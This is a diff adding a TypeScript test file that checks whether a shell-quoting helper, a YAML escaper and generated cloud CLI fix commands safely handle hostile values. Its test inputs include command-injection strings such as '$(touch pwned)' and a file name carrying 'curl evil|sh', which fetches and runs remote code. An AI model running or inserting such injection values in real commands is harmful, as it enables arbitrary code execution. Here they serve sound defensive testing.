@@ -1,0 +1,125 @@
+import { execFileSync } from "node:child_process";
+import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { parse } from "yaml";
+import { oneLine, quote, raw, sh, yamlScalar } from "../../src/core.ts";
+import { parseTemplate } from "../../src/parameters/template.ts";
+import { catalogue } from "../../src/refusals/catalogue.ts";
+import { fill } from "../../src/refusals/catalogue-fill.ts";
+import { hostile } from "./report/hostile.ts";
+
+const NAMES: readonly string[] = [
+  "$(touch pwned)",
+  "`touch pwned`",
+  "'; touch pwned; '",
+  '"; touch pwned; "',
+  "a\ntouch pwned\n",
+  "a\r\ntouch pwned #",
+  "-x",
+  "--help",
+  "a b",
+  "a!b",
+  "~",
+  "*",
+  "<in >out",
+  "\u001b[31mred\u202e",
+  "##[error]x",
+  "",
+];
+
+/** Runs commands in bash, in which the tools only note what they were given. @returns the words of each call, and files that came up. */
+function run(script: string): { readonly calls: string[][]; readonly files: readonly string[] } {
+  const folder = mkdtempSync(join(tmpdir(), "shell-"));
+  const stub = (tool: string) => `${tool}() { printf '%s\\0' ${tool} "$@" end-of-call >> calls.txt; }`;
+  const tools = ["az", "gcloud", "gh", "curl", "nslookup", "timedatectl", "try"].map(stub).join("\n");
+  try {
+    execFileSync("bash", ["-n"], { input: script, stdio: ["pipe", "pipe", "pipe"] });
+    execFileSync("bash", [], { cwd: folder, input: `${tools}\n${script}\n`, stdio: ["pipe", "pipe", "pipe"] });
+    const files = readdirSync(folder);
+    const text = files.includes("calls.txt") ? readFileSync(join(folder, "calls.txt"), "utf8") : "";
+    const calls = text.split("end-of-call\0").filter((call) => call !== "");
+    return { calls: calls.map((call) => call.split("\0").slice(0, -1)), files: files.filter((name) => name !== "calls.txt") };
+  } finally {
+    rmSync(folder, { recursive: true });
+  }
+}
+
+describe("a value in a command", () => {
+  it("reaches the program whole, as one word, and on one line", () => {
+    const texts = [...NAMES, ...fc.sample(hostile, 300)].map((text) => text.toWellFormed().replaceAll("\0", ""));
+    const { calls, files } = run(texts.map((text) => `try ${quote(text)}`).join("\n"));
+    expect(calls).toEqual(texts.map((text) => ["try", text]));
+    expect(files).toEqual([]);
+    // What is printed is what was made: no reader of lines changes it.
+    for (const text of texts) expect(oneLine(quote(text))).toBe(quote(text));
+  });
+
+  it("is quoted by the template, and tied to its option where it looks like another one", () => {
+    const name = "a'b";
+    expect(sh`az x --name ${name} --count ${3} --group ${raw("<group>")} ${["a", "b c"]}`).toBe(
+      "az x --name 'a'\\''b' --count 3 --group <group> a 'b c'",
+    );
+    expect(sh`az x --name ${"-y"} ${"-z"}`).toBe("az x --name='-y' '-z'");
+  });
+
+  it("is escaped in YAML, and reads back", () => {
+    fc.assert(
+      fc.property(fc.oneof(hostile, fc.constantFrom(...NAMES, "true", "1.5", "a: b", "# a", "null")), (text) => {
+        const line = `key: ${yamlScalar(text)}`;
+        expect(line).not.toMatch(/[\n\r\u2028\u2029\u0085]/);
+        expect(parse(line)).toEqual({ key: text.toWellFormed() });
+      }),
+    );
+  });
+});
+
+/** Placeholders are for a person to fill in: a shell would read from a file of that name. */
+const usable = (fix: string) => fix.replaceAll(/<[a-z][\w' -]*>/gi, "PLACE");
+
+describe("the fix of every refusal", () => {
+  const isCommand = (line: string) => /^(?:az|gcloud|gh|curl|nslookup) /.test(line);
+  it.each(NAMES.filter((name) => name !== ""))("runs nothing else for a name such as %j", (name) => {
+    const context = {
+      repository: name,
+      runId: name,
+      tenantId: name,
+      clientId: name,
+      subscriptionId: name,
+      provider: `projects/${name.replaceAll("/", "")}/locations/global/workloadIdentityPools/p/providers/q`,
+      serviceAccount: name,
+      subject: name,
+      issuer: name,
+      audience: name,
+      vault: { resourceGroup: name, name },
+    };
+    const quoted = `action '${name}' scope '${name}' namespace '${name}' after '${name}' seconds issuer '${name}' subject '${name}'`;
+    let tried = 0;
+    const script = catalogue.flatMap((row) =>
+      row.services.flatMap((service) => {
+        const refusal = { service, operation: name, text: quoted, status: 400 };
+        const lines = row.fix(fill(context, refusal), refusal).split("\n");
+        // Prose and lines for a plan stand beside commands; no line of a name's own does.
+        for (const line of lines) expect(line).not.toMatch(/^\s*touch|\r/);
+        const commands = lines.filter((line) => isCommand(line) || line.startsWith("#"));
+        tried += commands.length;
+        return commands;
+      }),
+    );
+    const { calls, files } = run(usable(script.join("\n")));
+    expect(files).toEqual([]);
+    expect(tried).toBeGreaterThan(100);
+    expect(calls.length).toBeGreaterThan(80);
+    expect(calls.every(([tool]) => tool !== "touch")).toBe(true);
+  });
+});
+
+it("a template that is Bicep is built by its name, whatever that holds", () => {
+  const path = "infra/$(touch pwned);curl evil|sh;.bicep";
+  const parsed = parseTemplate("param x string", path);
+  const [problem] = "problems" in parsed ? parsed.problems : [];
+  const command = /az bicep .*/.exec(problem?.fix ?? "")?.[0] ?? "";
+  expect(run(command)).toEqual({ calls: [["az", "bicep", "build", "--file", path]], files: [] });
+});
